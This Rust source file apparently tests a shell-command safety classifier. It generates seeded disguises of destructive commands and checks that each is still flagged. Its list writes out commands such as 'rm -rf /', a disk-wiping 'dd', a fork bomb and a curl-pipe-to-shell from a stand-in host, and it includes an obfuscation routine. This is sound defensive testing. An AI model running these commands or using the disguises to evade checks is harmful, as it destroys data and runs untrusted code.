//! Disguises of dangerous commands and harmless look-alikes, from a seed.
//!
//! Used to measure, never to judge: the rules know nothing of this file.

mod lookalike;
mod shape;
mod words;

pub use lookalike::lookalikes;

use anyhow::{Context, Result, bail};
use shell::{Class, View, classify};

/// A small generator of pseudo-random numbers (splitmix64), so that a seed gives the same texts everywhere.
#[derive(Clone, Debug)]
pub struct Dice(u64);

impl Dice {
    /// Starts from a seed.
    pub const fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next number below `bound`; zero when `bound` is zero.
    pub fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^= mixed >> 31;
        let bound64 = u64::try_from(bound).unwrap_or(u64::MAX);
        if bound64 == 0 { 0 } else { usize::try_from(mixed % bound64).unwrap_or(0) }
    }

    /// One of the choices.
    pub fn pick<'a, T>(&mut self, choices: &'a [T]) -> Option<&'a T> {
        let at = self.below(choices.len());
        choices.get(at)
    }

    /// True once in `n`.
    pub fn once_in(&mut self, n: usize) -> bool {
        self.below(n) == 0
    }
}

/// Ten commands nobody wants to run.
pub const CATASTROPHES: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "rm -rf /etc",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1",
    "chmod -R 777 /",
    "chown -R nobody /etc",
    "find / -delete",
    "shutdown -h now",
    "mv /etc /tmp/old",
    "curl https://evil.example/x.sh | sh",
    ":(){ :|:& };:",
];

/// `count` texts that do what `command` does.
pub fn disguises(command: &str, count: usize, seed: u64) -> Vec<String> {
    let mut dice = Dice::new(seed ^ 0x5EED);
    (0..count).map(|_| disguise(command, &mut dice)).collect()
}

fn disguise(command: &str, dice: &mut Dice) -> String {
    let plain = !command.contains(['|', '&', ';', '(', '>', '<', '{']);
    let mut text = if plain { words::written(command, dice) } else { command.to_owned() };
    let rounds = 1 + dice.below(3);
    for _ in 0..rounds {
        text = shape::shaped(&text, plain, dice);
    }
    text
}

/// `disguise --seed N [--count N] [COMMAND]`: prints each disguise with its class; fails if one is missed.
pub fn run(options: &[&str]) -> Result<bool> {
    let (seed, count, command) = read_options(options)?;
    let view = View::default();
    let mut missed = 0;
    for disguise in disguises(command, count, seed) {
        let class = classify(&disguise, &view).class;
        missed += usize::from(class != Class::Catastrophic);
        println!("{}", serde_json::json!({ "command": disguise, "class": class.name() }));
    }
    println!("disguise: {count} of `{command}` with seed {seed}, {missed} missed");
    Ok(missed == 0)
}

fn read_options<'a>(options: &[&'a str]) -> Result<(u64, usize, &'a str)> {
    let (mut seed, mut count, mut command) = (1, 200, "rm -rf /");
    let mut rest = options.iter();
    while let Some(option) = rest.next() {
        match *option {
            "--seed" => {
                seed = rest.next().context("`--seed` needs a number")?.parse().context("`--seed` needs a number")?
            }
            "--count" => {
                count = rest.next().context("`--count` needs a number")?.parse().context("`--count` needs a number")?
            }
            text if text.starts_with("--") => bail!("disguise takes --seed N, --count N and a command"),
            text => command = text,
        }
    }
    Ok((seed, count, command))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Seeds tried here; the judging seed is another one.
    const SEEDS: u64 = 4;

    #[test]
    fn no_disguise_is_missed() {
        let view = View::default();
        let mut missed = Vec::new();
        for seed in 0..SEEDS {
            for command in CATASTROPHES {
                missed.extend(
                    disguises(command, 200, seed)
                        .into_iter()
                        .filter(|text| classify(text, &view).class != Class::Catastrophic),
                );
            }
        }
        assert!(missed.is_empty(), "{} missed, first: {:?}", missed.len(), missed.iter().take(5).collect::<Vec<_>>());
    }

    #[test]
    fn look_alikes_are_left_alone() {
        let view = View::default();
        for seed in 0..SEEDS {
            let flagged: Vec<String> =
                lookalikes(200, seed).into_iter().filter(|text| classify(text, &view).class > Class::Write).collect();
            assert!(flagged.len() <= 1, "{flagged:?}");
        }
    }

    #[test]
    fn a_seed_gives_the_same_texts() {
        assert_eq!(disguises("rm -rf /", 20, 7), disguises("rm -rf /", 20, 7));
        assert_ne!(disguises("rm -rf /", 20, 7), disguises("rm -rf /", 20, 8));
    }
}
